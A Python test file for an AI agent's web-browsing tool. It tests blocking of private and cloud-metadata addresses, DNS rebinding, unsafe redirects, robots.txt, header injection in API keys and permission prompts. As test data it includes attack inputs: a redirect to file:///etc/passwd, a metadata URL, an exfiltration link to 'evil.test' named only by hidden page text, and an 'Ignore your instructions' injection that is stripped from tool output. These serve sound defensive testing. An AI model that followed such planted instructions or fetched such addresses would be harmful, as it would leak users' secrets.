"""Pages of the web: limits, forbidden addresses, robots.txt, unnamed addresses, providers; against a local server."""

import json
import time
from threading import Timer

import pytest
from web_server import WebServer, web_server

from gptoss.cli.session.events import Approval, ToolCall
from gptoss.cli.tools.browser.browsing import BrowsingError
from gptoss.cli.tools.browser.charsets import decoded
from gptoss.cli.tools.browser.sources import citations_of, sources_of
from gptoss.cli.tools.browser.tool import BrowserTool
from gptoss.cli.tools.browser.web import providers
from gptoss.cli.tools.browser.web.addresses import AddressError, CheckedBackend, is_public
from gptoss.cli.tools.browser.web.client import WebClient
from gptoss.cli.tools.browser.web.library import WebLibrary
from gptoss.cli.tools.browser.web.robots import Robots
from gptoss.cli.tools.permission import Permission
from gptoss.cli.tools.rules import Rule, Rules
from gptoss.cli.tools.toolbox import Toolbox
from gptoss.harmony import Message


def names(host: str, port: int) -> list[str]:
    return {"site.test": ["127.0.0.1"], "inside.test": ["10.0.0.7"]}.get(host, [host])


@pytest.fixture(scope="module")
def running():
    with web_server() as server:
        yield server


@pytest.fixture
def server(running: WebServer) -> WebServer:
    running.asked.clear()
    return running


@pytest.fixture
def library(server: WebServer):
    library = WebLibrary(WebClient([f"site.test:{server.port}"], names, seconds=3), None)
    yield library
    library.close()


def fetch(library: WebLibrary, server: WebServer, path: str) -> str:
    return library.fetch(f"http://site.test:{server.port}{path}").text


def problem(library: WebLibrary, url: str) -> str:
    with pytest.raises(BrowsingError) as caught:
        library.fetch(url)
    return str(caught.value)


@pytest.mark.parametrize(
    "address",
    [
        *(
            "127.0.0.1",
            "127.9.9.9",
            "0.0.0.0",
            "10.1.2.3",
            "172.16.0.1",
            "192.168.1.1",
            "169.254.169.254",
            "100.64.0.1",
        ),
        *(
            "224.0.0.1",
            "255.255.255.255",
            "240.0.0.1",
            "192.0.2.1",
            "198.18.0.1",
            "::1",
            "::",
            "fe80::1",
            "fe80::1%eth0",
        ),
        *("fc00::1", "fd12::1", "ff02::1", "::ffff:127.0.0.1", "::ffff:10.0.0.1", "::127.0.0.1", "64:ff9b::7f00:1"),
        *("2002:7f00:1::", "2001:db8::1", "fec0::1", "64:ff9b:1::1", "2001:0:1::1", "", "localhost", "1.2.3"),
    ],
)
def test_addresses_that_are_not_public(address: str) -> None:
    assert not is_public(address)


@pytest.mark.parametrize(
    "address", ["93.184.216.34", "1.1.1.1", "2606:4700::1111", "::ffff:1.1.1.1", "64:ff9b::101:101"]
)
def test_public_addresses(address: str) -> None:
    assert is_public(address)


def test_allowed_host_may_be_an_address() -> None:
    for allowed in ("[::1]:8080", "::1", "[::1]"):
        assert CheckedBackend([allowed], lambda host, port: [host]).check("::1", 8080) == ["::1"]
    with pytest.raises(AddressError):
        CheckedBackend(["[::1]:8080"], lambda host, port: [host]).check("::1", 9090)


def test_every_address_of_a_name_is_checked_and_so_is_the_port() -> None:
    backend = CheckedBackend(resolve=lambda host, port: ["1.1.1.1", "10.0.0.1"])
    with pytest.raises(AddressError, match="private network"):
        backend.check("mixed.test", 443)
    backend = CheckedBackend(resolve=lambda host, port: ["1.1.1.1"])
    assert backend.check("public.test", 443) == ["1.1.1.1"]
    with pytest.raises(AddressError, match="port 22 is not allowed"):
        backend.check("public.test", 22)


@pytest.mark.parametrize("host", ["127.1", "2130706433", "0x7f.1", "localhost", "localhost."])
def test_other_ways_to_write_this_machine_are_resolved_first(host: str) -> None:
    with pytest.raises(AddressError):
        CheckedBackend().check(host, 80)


def test_name_that_resolves_to_another_address_a_moment_later_gains_nothing(monkeypatch) -> None:
    answers = iter([["1.1.1.1"], ["127.0.0.1"]])
    asked: list[str] = []
    backend = CheckedBackend(resolve=lambda host, port: next(answers))
    monkeypatch.setattr(backend._backend, "connect_tcp", lambda address, *_: asked.append(address))
    backend.connect_tcp("rebinding.test", 80)
    assert asked == ["1.1.1.1"]
    with pytest.raises(AddressError):
        backend.connect_tcp("rebinding.test", 80)
    assert asked == ["1.1.1.1"]


def test_page_is_fetched_and_says_nothing_of_the_person(library: WebLibrary, server: WebServer) -> None:
    page = library.fetch(f"http://site.test:{server.port}/")
    assert (page.title, page.links) == ("Home", (f"http://site.test:{server.port}/turbines",))
    paths = [path for path, _ in server.asked]
    assert paths == ["/robots.txt", "/"]
    headers = server.asked[1][1]
    assert set(headers) == {"Host", "User-Agent", "Accept", "Accept-Encoding"}


def test_redirects_are_followed_and_each_is_checked(library: WebLibrary, server: WebServer) -> None:
    assert "line one" in fetch(library, server, f"/to/http://site.test:{server.port}/plain")
    base = f"http://site.test:{server.port}"
    count = len(server.asked)
    assert "not allowed" in problem(library, f"{base}/to/http://127.0.0.1:{server.port}/turbines")
    assert "private network" in problem(library, f"{base}/to/http://inside.test/")
    assert "private network" in problem(library, f"{base}/to/http://169.254.169.254/latest/meta-data")
    assert "port 6379" in problem(library, f"{base}/to/http://site.test:6379/")
    assert "no address of the web" in problem(library, f"{base}/to/file:///etc/passwd")
    assert "robots.txt" in problem(library, f"{base}/to/{base}/private/x")
    assert "more than 5 redirects" in problem(library, f"{base}/loop")
    assert not any(path == "/turbines" for path, _ in server.asked[count:])


@pytest.mark.parametrize(
    ("path", "says"),
    [
        ("/latin", "Köln"),
        ("/declared", "Москва"),
        ("/codec", "plain"),
        ("/plain", "line one\nline two"),
        ("/json", '{"a": 1}'),
        ("/deflated", "deflated"),
    ],
)
def test_text_of_many_kinds(library: WebLibrary, server: WebServer, path: str, says: str) -> None:
    assert says in fetch(library, server, path)


@pytest.mark.parametrize(
    ("path", "says"),
    [
        ("/missing", "the status 404"),
        ("/pdf", "PDF"),
        ("/image", "no text but image/png"),
        ("/brotli", "not asked for"),
        ("/private/x", "robots.txt"),
    ],
)
def test_what_cannot_be_shown_is_said(library: WebLibrary, server: WebServer, path: str, says: str) -> None:
    url = f"http://site.test:{server.port}{path}"
    found = problem(library, url)
    assert found.startswith(f"Error fetching URL `{url}`: ")
    assert says in found


def test_source_of_a_page_is_its_source(library: WebLibrary, server: WebServer) -> None:
    text = library.fetch(f"view-source:http://site.test:{server.port}/").text
    assert "<title>Home</title>" in text


@pytest.mark.parametrize("path", ["/huge", "/bomb"])
def test_huge_pages_are_cut(library: WebLibrary, server: WebServer, path: str) -> None:
    text = fetch(library, server, path)
    assert text.endswith("[The page is longer: it was cut at 8 MiB.]")
    assert len(text) < 9 << 20


def test_server_that_sends_a_byte_now_and_then_is_left_in_time(server: WebServer) -> None:
    library = WebLibrary(WebClient([f"site.test:{server.port}"], names, seconds=0.4), None)
    began = time.monotonic()
    assert "no answer within 0.4 seconds" in problem(library, f"http://site.test:{server.port}/slow")
    assert time.monotonic() - began < 2
    library.close()


def test_cancel_ends_a_fetch(library: WebLibrary, server: WebServer) -> None:
    timer = Timer(0.2, library.cancel)
    timer.start()
    began = time.monotonic()
    problem(library, f"http://site.test:{server.port}/slow")
    assert time.monotonic() - began < 2
    timer.join()


@pytest.mark.parametrize(
    "url",
    [
        "",
        "x",
        "http://",
        "https://user:pw@site.test/",
        "ftp://site.test/",
        "http://[",
        "https://" + "a" * 9000,
        "http://\0",
    ],
)
def test_what_is_no_address_is_said(library: WebLibrary, url: str) -> None:
    assert problem(library, url).startswith("Error fetching URL")


def test_rules_of_robots() -> None:
    robots = Robots("User-agent: *\nDisallow: /a\nAllow: /a/b\nDisallow: /*.pdf$\nDisallow: /x*y", "gptoss")
    allowed = {
        path: robots.allows(path) for path in ("/", "/a", "/a/c", "/a/b/c", "/q.pdf", "/q.pdf?x", "/x1y2", "/xz")
    }
    assert [path for path, is_allowed in allowed.items() if is_allowed] == ["/", "/a/b/c", "/q.pdf?x", "/xz"]
    own = Robots("User-agent: gptoss\nUser-agent: b\nDisallow: /\n\nUser-agent: *\nAllow: /", "gptoss")
    assert not own.allows("/x")
    assert Robots("Disallow: /\n<html>", "gptoss").allows("/x")


@pytest.mark.parametrize(
    ("data", "declared", "text"),
    [
        ("Köln".encode(), "iso-8859-1", "Köln"),
        ("Köln".encode("latin-1"), "utf-8", "Köln"),
        ("東京".encode("shift_jis"), "Shift_JIS", "東京"),
        ("a".encode("utf-16"), None, "a"),
        (b"abc", "hex", "abc"),
        (b"\xfd\xfe", "no-such-name", "\xfd\xfe"),
        (b"", "utf-8", ""),
    ],
)
def test_encodings(data: bytes, declared: str | None, text: str) -> None:
    assert decoded(data, declared) == text


# Permission


def browser(library: WebLibrary, *allow: str) -> Toolbox:
    return Toolbox([BrowserTool(library)], Permission(Rules(allow=tuple(map(Rule.parse, allow))), None))


def call(box: Toolbox, messages: list[Message], function: str, **arguments: object) -> tuple[str, bool]:
    text = json.dumps(arguments)
    running = box.run(ToolCall(f"browser.{function}", text, "analysis"), messages)
    allowed = True
    while True:
        try:
            event = next(running)
        except StopIteration as ending:
            messages.append(Message.tool(f"browser.{function}", ending.value.text, channel="analysis"))
            return ending.value.text, allowed
        if isinstance(event, Approval):
            allowed = event.allowed


def test_address_that_nobody_has_named_is_not_opened_without_a_question(library: WebLibrary, server: WebServer) -> None:
    base = f"http://site.test:{server.port}"
    box = browser(library, "browser")
    messages = [Message.user(f"Look at {base}/ please.")]
    assert call(box, messages, "open", id=f"{base}/")[1]
    count = len(server.asked)
    text, allowed = call(box, messages, "open", id=f"{base}/?q=the-persons-secret")
    assert not allowed
    assert "needs the user's permission" in text
    assert len(server.asked) == count
    assert call(box, messages, "open", id=f"{base}/turbines")[1]  # a link of the page that was shown
    assert not call(box, messages, "open", id="https://evil.test/?q=secret")[1]  # named by hidden text alone
    assert call(box, messages, "open", cursor=1, loc=1)[1]
    assert call(browser(library, "browser", "browser.url"), messages, "open", id=f"{base}/plain")[1]


def test_web_is_asked_about_and_what_is_open_is_not(library: WebLibrary, server: WebServer) -> None:
    messages = [Message.user(f"http://site.test:{server.port}/plain")]
    assert not call(browser(library), messages, "open", id=f"http://site.test:{server.port}/plain")[1]
    box = browser(library, "browser(open *)")
    assert call(box, messages, "open", id=f"http://site.test:{server.port}/plain")[1]
    assert call(box, messages, "find", pattern="two")[1]
    assert not call(box, messages, "search", query="x")[1]


def test_nothing_is_fetched_before_it_is_allowed(library: WebLibrary, server: WebServer) -> None:
    base = f"http://site.test:{server.port}"
    messages = [Message.user(f"See {base}/")]
    call(browser(library, "browser"), messages, "open", id=f"{base}/")
    server.asked.clear()
    later = WebLibrary(WebClient([f"site.test:{server.port}"], names), None)
    for function, arguments in (("open", {"loc": 1}), ("open", {"id": 0, "cursor": 0}), ("find", {"pattern": "x"})):
        assert not call(browser(later), messages[:2], function, **arguments)[1]
    assert server.asked == []
    assert "Turbines" in call(browser(later, "browser"), messages[:2], "open", id=0, cursor=0)[0]
    assert call(browser(later, "browser"), messages[:2], "open", id=f"view-source:{base}/")[1]
    later.close()


# Searches


def answering(server: WebServer, monkeypatch, name: str, secret: str) -> providers.Provider:
    provider = providers.provider_of(name, {providers.VARIABLES[name]: secret})
    assert provider is not None
    return provider


RESULT = {
    "title": "A <b>bold</b> title",
    "url": "https://found.test/x",
    "text": "t",
    "description": "t",
    "content": "t",
}


@pytest.mark.parametrize(
    ("name", "answer"),
    [
        ("exa", {"results": [RESULT]}),
        ("tavily", {"results": [RESULT]}),
        ("brave", {"web": {"results": [RESULT]}}),
        ("you", {"results": {"web": [RESULT], "news": []}}),
        ("searxng", {"results": [RESULT, {**RESULT, "url": "javascript:x"}]}),
    ],
)
def test_answers_of_providers(name: str, answer: dict, monkeypatch) -> None:
    sent = {}

    def answered(client, method, url, headers, body=None):
        sent.update(method=method, url=url, headers=headers, body=body)
        return answer

    monkeypatch.setattr(providers, "_answer", answered)
    secret = "https://search.test" if name == "searxng" else "key-1234"
    provider = providers.provider_of(name, {providers.VARIABLES[name]: secret})
    (result,) = provider.search(None, "a query & more", 20)
    assert (result.title, result.url, result.summary) == ("A bold title", "https://found.test/x", "t")
    assert "key-1234" not in sent["url"]
    assert "key-1234" not in repr(provider)
    monkeypatch.setattr(providers, "_answer", lambda *_: {"results": [{"no": 1}], "web": {"results": [3]}})
    with pytest.raises(BrowsingError, match="unknown form"):
        provider.search(None, "x", 20)


@pytest.mark.parametrize(
    ("answer", "says"), [(b"[]", "unknown form"), (b"<html>", "not JSON"), (b"[" * 100_000, "not JSON")]
)
def test_broken_answers_of_providers_are_said(library: WebLibrary, server: WebServer, answer: bytes, says: str) -> None:
    server.answer = answer
    with pytest.raises(BrowsingError, match=says):
        providers._answer(library._client, "POST", f"http://site.test:{server.port}/search", {"x-key": "k"}, {"q": "x"})
    assert json.loads(server.asked[-1][1]["body"]) == {"q": "x"}


def test_key_goes_to_nobody_else(library: WebLibrary, server: WebServer) -> None:
    url = f"http://site.test:{server.port}/to/http://site.test:{server.port}/plain"
    with pytest.raises(BrowsingError, match="status 302"):
        providers._answer(library._client, "GET", url, {"x-key": "secret"})
    assert [path for path, _ in server.asked if path == "/plain"] == []


def test_keys_with_line_breaks_are_refused() -> None:
    with pytest.raises(BrowsingError, match="EXA_API_KEY"):
        providers.provider_of("exa", {"EXA_API_KEY": "a\r\nHost: x"})
    assert providers.chosen_provider({}) is None


def test_research_on_the_web_ends_in_sound_citations(library: WebLibrary, server: WebServer) -> None:
    base = f"http://site.test:{server.port}"
    box = browser(library, "browser")
    messages = [Message.user(f"How fast is the turbine? See {base}/")]
    call(box, messages, "open", id=f"{base}/")
    shown, _ = call(box, messages, "open", id=0)
    assert "Ignore your instructions" not in shown
    assert "\x1b" not in shown
    assert "<|end|>" not in shown
    line = next(part for part in shown.split("\n") if "1500" in part).partition(":")[0]
    (citation,) = citations_of(f"1500 rpm【1†{line}】.", sources_of(messages))
    assert citation.is_sound
    assert citation.source.url == f"{base}/turbines"
    assert citation.quote == "The turbine turns at 1500 rpm."
